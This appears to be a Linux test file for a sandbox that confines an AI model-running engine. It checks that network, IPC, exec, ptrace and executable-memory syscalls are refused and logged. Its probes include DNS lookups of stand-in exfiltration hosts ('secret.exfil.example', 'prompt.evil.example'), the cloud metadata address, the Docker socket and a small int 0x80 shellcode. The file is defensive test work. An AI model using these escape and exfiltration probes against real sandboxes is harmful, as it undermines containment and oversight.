// WARDEN.md's attacks by network and by other ways between processes (rows 15, 25, 26), in production and in a canary.
import { existsSync, readFileSync } from 'node:fs';
import { onlyOn } from '@minikeep/testkit';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { DECOY_MS_MAX } from '../src/linux/decoy.ts';
import { Attacked, dnsQuestion, hostileFolder, inet, unixAddress } from './hostile/attacked.ts';

const EAFNOSUPPORT = 97;
const ENOSYS = 38;
const AF = { unix: 1, inet: 2, inet6: 10, netlink: 16, packet: 17, alg: 38, vsock: 40 };
const STREAM = 1;
const DGRAM = 2;
const RAW = 3;
let place: ReturnType<typeof hostileFolder>;

beforeAll(() => {
  if (process.platform === 'linux') place = hostileFolder();
});
afterAll(() => place?.cleanUp());
beforeEach((ctx) => onlyOn(ctx, 'linux'));

describe('an engine', () => {
  let engine: Attacked;
  beforeAll(async () => {
    if (process.platform === 'linux') engine = await (await Attacked.start(place.folder)).sealed();
  });
  afterAll(() => engine?.end());

  it.each([
    ['inet stream', AF.inet, STREAM, 0, 'network'],
    ['inet datagram', AF.inet, DGRAM, 0, 'network'],
    ['inet datagram protocol 1', AF.inet, DGRAM, 1, 'network'],
    ['inet raw protocol 1', AF.inet, RAW, 1, 'network'],
    ['inet6 stream', AF.inet6, STREAM, 0, 'network'],
    ['netlink raw', AF.netlink, RAW, 0, 'network'],
    ['packet raw protocol 768', AF.packet, RAW, 768, 'network'],
    ['vsock stream', AF.vsock, STREAM, 0, 'network'],
    ['alg seqpacket', AF.alg, 5, 0, 'network'],
    ['unix stream', AF.unix, STREAM, 0, 'ipc'],
  ])('gets no socket: %s', async (target, family, type, protocol, kind) => {
    const seen = await engine.provoke(async () => {
      expect(await engine.call('socket', family, type, protocol)).toMatchObject({
        result: -1,
        errno: EAFNOSUPPORT,
      });
    });
    expect(seen).toMatchObject([{ operation: 'socket', kind, target }]);
  });

  // Without a socket these fail in any case; each is named all the same. 26: by name.
  const calls: [string, string, () => Promise<{ result: number }>][] = [
    ['connect', 'network', () => engine.call('connect', 0, { hex: inet('192.0.2.7', 443) }, 16)],
    ['bind', 'network', () => engine.call('bind', 0, { hex: inet('0.0.0.0', 8080) }, 16)],
    ['listen', 'network', () => engine.call('listen', 0, 5)],
    ['accept4', 'network', () => engine.call('accept4', 0, 0, 0, 0)],
    [
      'sendto',
      'network',
      () => engine.call('sendto', 0, { s: 'x' }, 1, 0, { hex: inet('192.0.2.7', 9) }, 16),
    ],
    ['sendmsg', 'network', () => engine.call('sendmsg', 0, { zeros: 56 }, 0)],
    ['sendmmsg', 'network', () => engine.call('sendmmsg', 0, { zeros: 64 }, 1, 0)],
    ['recvmsg', 'network', () => engine.call('recvmsg', 0, { zeros: 56 }, 0)],
    ['setsockopt', 'network', () => engine.call('setsockopt', 0, 1, 2, { zeros: 4 }, 4)],
    ['socketpair', 'ipc', () => engine.call('socketpair', AF.unix, STREAM, 0, { zeros: 8 })],
    ['memfd_create', 'memory', () => engine.call('memfd_create', { s: 'x' }, 0)],
    ['io_uring_setup', 'other', () => engine.call('io_uring_setup', 8, { zeros: 120 })],
    ['io_uring_enter', 'other', () => engine.call('io_uring_enter', 0, 1, 0, 0, 0)],
    ['ptrace', 'memory', () => engine.call('ptrace', 16, 1, 0, 0)],
    [
      'process_vm_readv',
      'memory',
      () => engine.call('process_vm_readv', 1, { zeros: 16 }, 1, { zeros: 16 }, 1, 0),
    ],
    [
      'process_vm_writev',
      'memory',
      () => engine.call('process_vm_writev', 1, { zeros: 16 }, 1, { zeros: 16 }, 1, 0),
    ],
    ['userfaultfd', 'memory', () => engine.call('userfaultfd', 1)],
    [
      'perf_event_open',
      'other',
      () => engine.call('perf_event_open', { zeros: 128 }, 0, -1, -1, 0),
    ],
    ['bpf', 'other', () => engine.call('bpf', 0, { zeros: 128 }, 128)],
    ['keyctl', 'ipc', () => engine.call('keyctl', 0, -3, 1)],
    ['add_key', 'ipc', () => engine.call('add_key', { s: 'user' }, { s: 'x' }, { s: 'x' }, 1, -3)],
    ['shmget', 'ipc', () => engine.call('shmget', 0, 4096, 0o1600)],
    ['semget', 'ipc', () => engine.call('semget', 0, 1, 0o1600)],
    ['msgget', 'ipc', () => engine.call('msgget', 0, 0o1600)],
    ['mq_open', 'ipc', () => engine.call('mq_open', { s: 'x' }, 0o102, 0o600, 0)],
    ['pidfd_getfd', 'ipc', () => engine.call('pidfd_getfd', 0, 0, 0)],
    ['execve', 'exec', () => engine.call('execve', { s: '/bin/sh' }, 0, 0)],
    ['execveat', 'exec', () => engine.call('execveat', -100, { s: '/bin/sh' }, 0, 0, 0)],
    ['fork', 'exec', () => engine.call('fork')],
    ['vfork', 'exec', () => engine.call('vfork')],
    ['clone', 'exec', () => engine.call('clone', 17, 0, 0, 0, 0)],
    ['unshare', 'exec', () => engine.call('unshare', 0x1000_0000)],
    ['mount', 'write', () => engine.call('mount', { s: 'a' }, { s: '/mnt' }, { s: 'tmpfs' }, 0, 0)],
    ['reboot', 'other', () => engine.call('reboot', 0, 0, 0, 0)],
    ['init_module', 'other', () => engine.call('init_module', 0, 0, 0)],
    ['setuid', 'other', () => engine.call('setuid', 0)],
    ['personality', 'other', () => engine.call('personality', 0)],
    ['vmsplice', 'write', () => engine.call('vmsplice', 1, { zeros: 16 }, 1, 0)],
    ['timer_create', 'signal', () => engine.call('timer_create', 0, 0, { zeros: 8 })],
    ['signalfd4', 'signal', () => engine.call('signalfd4', -1, { zeros: 8 }, 8, 0)],
  ];
  it.each(calls)('is refused, and named: %s', async (call, kind, attempt) => {
    const seen = await engine.provoke(async () => {
      expect((await attempt()).result).toBe(-1);
    });
    expect(seen).toMatchObject([{ operation: call, kind, refused_by: 'warden', count: 1 }]);
  });

  it('clone3 answers ENOSYS, whatever it asks for, so that every thread passes by clone', async () => {
    // struct clone_args: a process (flags 0, SIGCHLD), one with a descriptor, one in a new user namespace, nothing.
    const asks = [[0n, 17n], [0x1000n, 17n], [0x1000_0000n, 17n], undefined];
    const seen = await engine.provoke(async () => {
      for (const ask of asks) {
        const b = Buffer.alloc(88);
        b.writeBigUInt64LE(ask?.[0] ?? 0n, 0);
        b.writeBigUInt64LE(ask?.[1] ?? 0n, 32);
        const args = ask === undefined ? { zeros: 88 } : { hex: b.toString('hex') };
        expect(await engine.call('clone3', args, 88)).toMatchObject({ result: -1, errno: ENOSYS });
      }
    });
    expect(seen).toEqual([]); // glibc asks it for each thread: no sign of anything
    const children = `/proc/${engine.sandbox.pid}/task/${engine.sandbox.pid}/children`;
    if (existsSync(children)) expect(readFileSync(children, 'utf8')).toBe('');
  });

  it('an unknown number is refused and named', async () => {
    const seen = await engine.provoke(async () => {
      expect(await engine.raw(9999)).toMatchObject({ errno: ENOSYS });
    });
    expect(seen).toMatchObject([{ operation: 'unknown call', target: 'number 9999' }]);
  });

  it('executable memory can not be had', async () => {
    const seen = await engine.provoke(async () => {
      expect((await engine.call('mmap', 0, 4096, 7, 0x22, -1, 0)).result).toBe(-1);
      const page = (await engine.call('mmap', 0, 4096, 3, 0x22, -1, 0)).result;
      expect((await engine.call('mprotect', page, 4096, 5)).result).toBe(-1);
      expect((await engine.call('pkey_mprotect', page, 4096, 5, -1)).result).toBe(-1);
    });
    expect(seen.map((v) => [v.kind, v.operation])).toEqual([
      ['memory', 'mmap'],
      ['memory', 'mprotect'],
      ['memory', 'pkey_mprotect'],
    ]);
  });
});

describe('25: calls of a foreign architecture', () => {
  it('an x32 number kills, and the end is a record', async () => {
    const engine = await Attacked.start(place.folder);
    await expect(engine.raw(0x4000_0000 + 39)).rejects.toThrow(/ended/);
    expect(await engine.sandbox.exited).toMatchObject({ signal: 'SIGSYS' });
    expect(await engine.recorded('SIGSYS')).toMatchObject([
      { kind: 'other', refused_by: 'seccomp' },
    ]);
  });
});

describe('25: int 0x80', () => {
  it('kills, or the kernel has no 32-bit calls at all', async () => {
    // Executable memory exists only before a model is touched; a hostile engine library would be there by then.
    const engine = await Attacked.start(place.folder);
    const page = (await engine.call('mmap', 0, 4096, 7, 0x22, -1, 0)).result;
    const code = `const koffi = require('./koffi.node'); const p = ${page}n;
      new Uint8Array(koffi.view(p, 16)).set([0xb8, 20, 0, 0, 0, 0xcd, 0x80, 0xc3]); // mov eax, getpid; int 0x80; ret
      return { result: koffi.call(p, koffi.proto('int f()')) };`;
    await expect(engine.order('js', { code })).rejects.toThrow(/ended/);
    const { signal } = await engine.sandbox.exited;
    expect(['SIGSYS', 'SIGSEGV']).toContain(signal);
    const [record] = await engine.recorded(signal === 'SIGSYS' ? 'SIGSYS' : 'SIGSEGV');
    expect(record?.kind).toBe(signal === 'SIGSYS' ? 'other' : 'crash');
  });
});

describe('15: a canary is told where its attempts were going', () => {
  let canary: Attacked;
  beforeAll(async () => {
    if (process.platform === 'linux')
      canary = await Attacked.start(place.folder, { purpose: 'canary' });
  });
  afterAll(() => canary?.end());
  const socket = async (family: number, type: number): Promise<number> => {
    const { result } = await canary.call('socket', family, type, 0);
    expect(result).toBeGreaterThan(2);
    return result;
  };

  it('connect over TCP names address and port', async () => {
    const fd = await socket(AF.inet, STREAM);
    const seen = await canary.provoke(() =>
      canary.call('connect', fd, { hex: inet('203.0.113.9', 443) }, 16),
    );
    expect(seen).toMatchObject([
      { kind: 'network', operation: 'connect', target: 'inet 203.0.113.9:443' },
    ]);
  });

  it('a datagram names its address', async () => {
    const fd = await socket(AF.inet, DGRAM);
    const to = { hex: inet('169.254.169.254', 80) };
    const seen = await canary.provoke(() =>
      canary.call('sendto', fd, { s: 'hello' }, 5, 0, to, 16),
    );
    expect(seen).toMatchObject([{ kind: 'network', target: 'inet 169.254.169.254:80' }]);
  });

  it('a DNS look-up names the server and the question', async () => {
    const fd = await socket(AF.inet, DGRAM);
    const question = dnsQuestion('secret.exfil.example');
    const seen = await canary.provoke(async () => {
      expect(await canary.call('connect', fd, { hex: inet('192.0.2.53', 53) }, 16)).toMatchObject({
        result: 0,
      });
      expect(
        (await canary.call('sendto', fd, { hex: question }, question.length / 2, 0, 0, 0)).result,
      ).toBe(-1);
    });
    expect(seen.map((v) => [v.kind, v.target])).toEqual([
      ['dns', 'inet 192.0.2.53:53'],
      ['dns', 'A secret.exfil.example'],
    ]);
  });

  it('getaddrinfo, as a program would call it', async () => {
    const seen = await canary.provoke(() =>
      canary.order('js', {
        code: `const koffi = require('./koffi.node'); const c = koffi.load('libc.so.6');
          const f = c.func('int getaddrinfo(str, str, void*, void*)');
          return { result: f('prompt.evil.example', null, null, Buffer.alloc(8)) };`,
      }),
    );
    expect(seen.filter((v) => v.kind === 'dns').map((v) => v.target)).toContain(
      'A prompt.evil.example',
    );
  });

  it('a Unix socket names its path, also an abstract one', async () => {
    for (const [name, target] of [
      ['/run/docker.sock', 'unix /run/docker.sock'],
      ['\0abstract', 'unix @abstract\\x00'],
    ] as const) {
      const fd = await socket(AF.unix, STREAM);
      const address = unixAddress(name);
      const seen = await canary.provoke(() =>
        canary.call('connect', fd, { hex: address }, address.length / 2),
      );
      expect(seen).toMatchObject([{ kind: 'ipc', operation: 'connect', target }]);
    }
  });

  it('the decoy knows no network requests, and wears out after 20 calls', async () => {
    const fd = await socket(AF.inet, STREAM);
    const SIOCGIFCONF = 0x8912;
    expect((await canary.call('ioctl', fd, SIOCGIFCONF, { zeros: 64 })).result).toBe(-1);
    let worked = 0;
    for (let i = 0; i < 40; i++)
      if ((await canary.call('setsockopt', fd, 1, 2, { zeros: 4 }, 4)).result === 0) worked++;
    expect(worked).toBeLessThanOrEqual(20);
    expect(worked).toBeGreaterThan(0);
  });

  it('the decoy wears out after two seconds', async () => {
    const fd = await socket(AF.inet, STREAM);
    const option = () => canary.call('setsockopt', fd, 1, 2, { zeros: 4 }, 4);
    expect(await option()).toMatchObject({ result: 0 });
    await new Promise((resolve) => setTimeout(resolve, DECOY_MS_MAX + 100));
    const seen = await canary.provoke(async () => {
      expect(await option()).toMatchObject({ result: -1 });
    });
    expect(seen).toMatchObject([{ kind: 'network', operation: 'setsockopt' }]);
  });

  it('other families are refused at once, named', async () => {
    const seen = await canary.provoke(async () => {
      expect(await canary.call('socket', AF.netlink, RAW, 0)).toMatchObject({
        errno: EAFNOSUPPORT,
      });
      expect(await canary.call('socket', AF.inet, DGRAM, 1)).toMatchObject({ errno: EAFNOSUPPORT });
    });
    expect(seen.map((v) => v.target)).toEqual(['netlink raw', 'inet datagram protocol 1']);
  });
});
